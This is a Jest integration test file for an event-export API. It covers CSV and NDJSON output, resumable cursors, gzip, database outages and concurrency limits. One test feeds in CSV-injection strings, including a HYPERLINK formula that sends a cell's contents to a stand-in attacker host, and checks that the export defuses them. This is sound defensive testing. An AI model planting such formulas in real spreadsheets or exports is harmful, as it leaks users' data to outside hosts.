// Exports of events on real servers: complete, readable by other programs, resumable, and visibly incomplete when they break off.
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { routeDeclarations } from '@lead-scoring/contracts';
import { connectReadModel, type ReadModel } from '@lead-scoring/read-model';
import { endpointsFromEnvironment, eventually } from '@lead-scoring/testing/service-rig';
import { startProxy, type SwitchableProxy } from '@lead-scoring/testing/switchable-proxy';
import { parse } from 'csv-parse/sync';
import { deleteLead, ingest, leadOf, otherOuId, type SentEvent } from '../testing/builders.js';
import { startRig, type Rig } from '../testing/rig.js';

let rig: Rig;
let proxy: SwitchableProxy;
/** The read model of the queries, of which the connection to the database can be cut. */
let cuttable: ReadModel;
beforeAll(async () => {
  const { hostname, port } = new URL(endpointsFromEnvironment().mongodbUri);
  proxy = await startProxy(hostname, Number(port));
  rig = await startRig({
    reads: async ({ db }, logger) => {
      cuttable = await connectReadModel(
        {
          uri: `mongodb://127.0.0.1:${String(proxy.port)}/?directConnection=true`,
          database: db.databaseName,
          timeoutMs: 2_000,
        },
        { logger },
      );
      return cuttable;
    },
  });
}, 60_000);
afterAll(async () => {
  await rig.stop();
  await cuttable.close();
  await proxy.stop();
}, 60_000);

type Exported = routeDeclarations.StoredEvent & { cursor: string };

const ndjson = { accept: 'application/x-ndjson' };
const linesOf = (text: string): Exported[] =>
  text
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Exported);
const exported = async (query = '', ou = otherOuId) => {
  const answer = await rig.get(`/events/export${query}`, { ou, headers: ndjson });
  expect([answer.status, answer.headers.get('content-type')]).toEqual([
    200,
    'application/x-ndjson; charset=utf-8',
  ]);
  return linesOf(answer.text);
};
const withoutCursor = (line: Exported): routeDeclarations.StoredEvent => {
  const { cursor, ...event } = line;
  expect(cursor).toMatch(/^[\w-]{67}$/);
  return event;
};
const rowsOf = (csv: string): Record<string, string>[] =>
  parse<Record<string, string>>(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
/** Reads a CSV with Python's csv module. */
function readByPython(csv: string): Promise<string[][]> {
  const script =
    "import csv,io,json,sys;csv.field_size_limit(10**8);print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer,encoding='utf-8-sig',newline='')))))";
  return new Promise((resolve, reject) => {
    const python = spawn('python3', ['-c', script], { stdio: ['pipe', 'pipe', 'inherit'] });
    let output = '';
    python.on('error', (cause) => {
      reject(new Error('this test reads with Python 3.11 or newer: install python3', { cause }));
    });
    python.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    python.on('close', () => {
      resolve(JSON.parse(output) as string[][]);
    });
    python.stdin.end(csv);
  });
}

describe('all events of an OU', () => {
  const leads = ['ada', 'bob', 'cookie:x'];
  const types = ['Page View', 'page_view', 'Form Submit'];
  const ou = otherOuId;
  beforeAll(async () => {
    // Several in one second and one millisecond, and some far apart.
    const sent: SentEvent[] = Array.from({ length: 300 }, (_, index) => ({
      aliases: [leads[index % 3] ?? ''],
      event_type: types[index % 3] ?? '',
      timestamp: new Date(Date.UTC(2026, 0, 1) + Math.floor(index / 3) ** 2 * 250).toISOString(),
      metadata: { path: `/${String(index)}`, amount: index - 100, deep: { list: [index] } },
    }));
    await rig.take([
      ingest(
        sent.map((event) => ({ ...event, lead_id: leadOf(event.aliases[0] ?? '', ou) })),
        { ou_id: ou },
      ),
    ]);
  }, 60_000);

  const paged = async (query = '') => {
    const all: routeDeclarations.StoredEvent[] = [];
    for (let cursor = ''; ;) {
      const { body } = await rig.get(`/events?limit=100${query}${cursor}`, { ou });
      all.push(...(body.data as routeDeclarations.StoredEvent[]));
      if (body.next_cursor === undefined) return all;
      cursor = `&cursor=${body.next_cursor as string}`;
    }
  };

  test.each([
    '',
    '&event_type=Page%20View',
    '&from=2026-01-01T00:00:10.250Z&to=2026-01-01T00:05:00.000Z',
    `&lead_id=${leadOf('ada', otherOuId)}`,
    '&alias=bob@example.com&event_type=page_view',
    `&lead_id=${leadOf('ada', otherOuId)}&alias=bob@example.com`,
    '&event_type=Nothing',
  ])('are those of the pages of GET /events, in the same order (%s)', async (query) => {
    const pages = await paged(query);
    const lines = await exported(query.replace('&', '?'));
    expect(lines.map(withoutCursor)).toEqual(pages);
  });

  test('go on after any line with its cursor, in CSV without a header', async () => {
    const all = await exported();
    const csv = (await rig.get('/events/export', { ou })).text;
    for (const index of [0, 99, 150, 298, 299]) {
      const cursor = all[index]?.cursor ?? '';
      expect((await exported(`?cursor=${cursor}`)).map(({ id }) => id)).toEqual(
        all.slice(index + 1).map(({ id }) => id),
      );
      const rest = await rig.get(`/events/export?cursor=${cursor}`, { ou });
      expect(rest.text).toBe(csv.slice(csv.indexOf(`${cursor}\r\n`) + cursor.length + 2));
    }
    expect((await rig.get('/events/export?cursor=AAAA', { ou })).status).toBe(400);
    // A cursor of GET /events means the same place.
    const page = await rig.get('/events?limit=7', { ou });
    expect(await exported(`?cursor=${page.body.next_cursor as string}`)).toEqual(all.slice(7));
  });

  test('chosen metadata fields are columns of CSV; without a choice all metadata is one', async () => {
    const chosen = rowsOf(
      (await rig.get('/events/export?columns=metadata.path,metadata.deep.list,metadata.no', { ou })).text,
    );
    expect(chosen).toHaveLength(300);
    expect(
      chosen.map((row) => [row['metadata.path'], row['metadata.deep.list'], row['metadata.no']]),
    ).toContainEqual(['/7', '[7]', '']);
    const amounts = rowsOf((await rig.get('/events/export?columns=metadata.amount', { ou })).text);
    expect(amounts.map((row) => row['metadata.amount'])).toContain('-93');
    const [first] = rowsOf((await rig.get('/events/export', { ou })).text);
    expect(JSON.parse(first?.metadata ?? '')).toMatchObject({ path: expect.any(String) });
    expect(Object.keys(first ?? {})).toEqual(
      'timestamp,event_type,lead_id,alias_kind,alias,metadata,source,received_at,id,event_id,batch_id,cursor'.split(
        ',',
      ),
    );
    const refused = await rig.get('/events/export?columns=metadata.path', { ou, headers: ndjson });
    expect([refused.status, refused.body.code]).toEqual([400, 'invalid_request']);
  });

  test('arrive as gzip where that is accepted, and the file has a name', async () => {
    const plain = await rig.open('/events/export', { ou, headers: { 'accept-encoding': 'identity' } });
    const zipped = await rig.open('/events/export', { ou, headers: { 'accept-encoding': 'gzip' } });
    expect([plain, zipped].map(({ headers }) => headers.get('content-encoding'))).toEqual([null, 'gzip']);
    expect(zipped.headers.get('content-disposition')).toBe('attachment; filename="events.csv"');
    expect(zipped.headers.get('vary')).toBe('Accept, Accept-Encoding');
    expect(await zipped.text()).toBe(await plain.text());
  });

  test('of an OU without events there is a header alone, and in NDJSON nothing', async () => {
    const empty = randomUUID();
    expect(rowsOf((await rig.get('/events/export', { ou: empty })).text)).toEqual([]);
    expect((await rig.get('/events/export', { ou: empty })).text).toMatch(/^timestamp,.*,cursor\r\n$/);
    expect(await exported('', empty)).toEqual([]);
  });

  test('a deleted lead has none', async () => {
    const own = randomUUID();
    const of = (name: string) => ({ aliases: [name], lead_id: leadOf(name, own) });
    await rig.take([ingest([of('ada'), of('bob')], { ou_id: own })]);
    await rig.take([deleteLead('ada', { ou_id: own, lead_id: leadOf('ada', own) })]);
    expect((await exported('', own)).map(({ lead_id }) => lead_id)).toEqual([leadOf('bob', own)]);
  });
});

describe('hostile and large values', () => {
  const ou = randomUUID();
  const texts = {
    formula: '=HYPERLINK("http://evil.example?"&A1,"click")',
    plus: '+1',
    minus: '-1+1',
    at: '@SUM(A1)',
    tab: '\t=1',
    quotes: 'say "hi", or \'bye\'',
    lines: 'one\r\ntwo\nthree\rfour',
    nul: 'a\u0000b',
    lone: 'a\ud800b',
    trail: 'ends with "',
  };
  const large = 'x"\n,'.repeat(20_000);

  test('are read back equal by Python’s csv module, with formulas as text', async () => {
    await rig.take([
      ingest([{ aliases: ['ada'], metadata: { ...texts, large }, lead_id: leadOf('ada', ou) }], {
        ou_id: ou,
      }),
    ]);
    const keys = [...Object.keys(texts), 'large'];
    const columns = keys.map((key) => `metadata.${key}`).join(',');
    const answer = await rig.get(`/events/export?columns=${columns}`, { ou });
    const [header = [], row = []] = await readByPython(`\uFEFF${answer.text}`);
    const read = Object.fromEntries(
      header.map((title, index) => [title.replace('metadata.', ''), row[index]]),
    );
    const shown = Object.fromEntries(
      Object.entries({ ...texts, large }).map(([key, text]) => [
        key,
        `${['formula', 'plus', 'minus', 'at', 'tab'].includes(key) ? "'" : ''}${text.toWellFormed()}`,
      ]),
    );
    expect(read).toMatchObject(shown);
    const whole = await readByPython((await rig.get('/events/export', { ou })).text);
    expect(JSON.parse(whole[1]?.[5] ?? '')).toEqual({ ...texts, large });
    expect((await exported('', ou)).map(({ metadata }) => metadata)).toEqual([{ ...texts, large }]);
  });

  describe('more than fits into memory at once', () => {
    const big = randomUUID();
    const blob = 'x'.repeat(60_000);
    beforeAll(async () => {
      for (let batch = 0; batch < 5; batch += 1)
        await rig.take([
          ingest(
            Array.from({ length: 100 }, (_, index) => ({
              aliases: [`lead${String(index)}`],
              lead_id: leadOf(`lead${String(index)}`, big),
              timestamp: new Date(Date.UTC(2026, 0, 1) + (batch * 100 + index) * 60_000).toISOString(),
              metadata: { blob, number: batch * 100 + index },
            })),
            { ou_id: big },
          ),
        ]);
    }, 120_000);

    test('is complete and in order', async () => {
      const numbers = (await exported('', big)).map(({ metadata }) => metadata.number);
      expect(numbers).toEqual(Array.from({ length: 500 }, (_, index) => 499 - index));
    });

    test('is complete and in order where large events follow small ones, which are read many at once', async () => {
      const mixed = randomUUID();
      const [small, large] = [1_200, 300];
      for (let first = 0; first < small + large; first += 100)
        await rig.take([
          ingest(
            Array.from({ length: 100 }, (_, index) => ({
              aliases: [`lead${String(index)}`],
              lead_id: leadOf(`lead${String(index)}`, mixed),
              timestamp: new Date(Date.UTC(2026, 0, 1) + (first + index) * 60_000).toISOString(),
              metadata: { number: first + index, ...(first < large && { blob }) },
            })),
            { ou_id: mixed },
          ),
        ]);
      const numbers = (await exported('', mixed)).map(({ metadata }) => metadata.number);
      expect(numbers).toEqual(Array.from({ length: small + large }, (_, index) => small + large - 1 - index));
    }, 120_000);

    test('breaks its connection when the database is cut off in the middle, goes on from its last line, and is refused with 503 before its beginning', async () => {
      const response = await rig.open('/events/export', { ou: big, headers: ndjson });
      expect(response.status).toBe(200);
      const received: Buffer[] = [];
      await expect(
        (async () => {
          for await (const chunk of response.body ?? []) {
            if (received.push(Buffer.from(chunk as Uint8Array)) === 1) proxy.cut();
          }
        })(),
      ).rejects.toThrow();
      const text = Buffer.concat(received).toString();
      const lines = linesOf(text.slice(0, text.lastIndexOf('\n') + 1));
      expect(lines.length).toBeGreaterThan(0);
      expect(lines.length).toBeLessThan(500);
      const refused = await rig.get('/events/export', { ou: big });
      expect([refused.status, refused.body.code]).toEqual([503, 'service_unavailable']);
      proxy.restore();
      const rest = await eventually('the database is back', async () => {
        const { status, text: answered } = await rig.get(
          `/events/export?cursor=${lines.at(-1)?.cursor ?? ''}`,
          {
            ou: big,
            headers: ndjson,
          },
        );
        return status === 200 ? linesOf(answered) : undefined;
      });
      expect([...lines, ...rest].map(({ metadata }) => metadata.number)).toEqual(
        Array.from({ length: 500 }, (_, index) => 499 - index),
      );
    }, 60_000);

    test('of more than four exports at a time the fifth is refused with 429, and the places of ended ones are free', async () => {
      const gone = new AbortController();
      // Not compressed: the sockets would hold the whole of what is compressed, and the exports would end unread.
      const headers = { ...ndjson, 'accept-encoding': 'identity' };
      const open = () => rig.open('/events/export', { ou: big, headers, signal: gone.signal });
      // fetch breaks off an answer that nobody can read any more: while its four are to be open, the test holds them
      const running = [await open(), await open(), await open(), await open()];
      const fifth = await rig.get('/events/export', { ou: big });
      expect([fifth.status, fifth.body.code, fifth.headers.get('retry-after')]).toEqual([
        429,
        'too_many_in_flight',
        '10',
      ]);
      expect((await rig.get('/events/export', { ou })).status).toBe(200);
      expect(running.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
      gone.abort();
      await eventually(
        'their places are free',
        async () => (await rig.get('/events/export', { ou: big })).status === 200,
      );
    });
  });
});
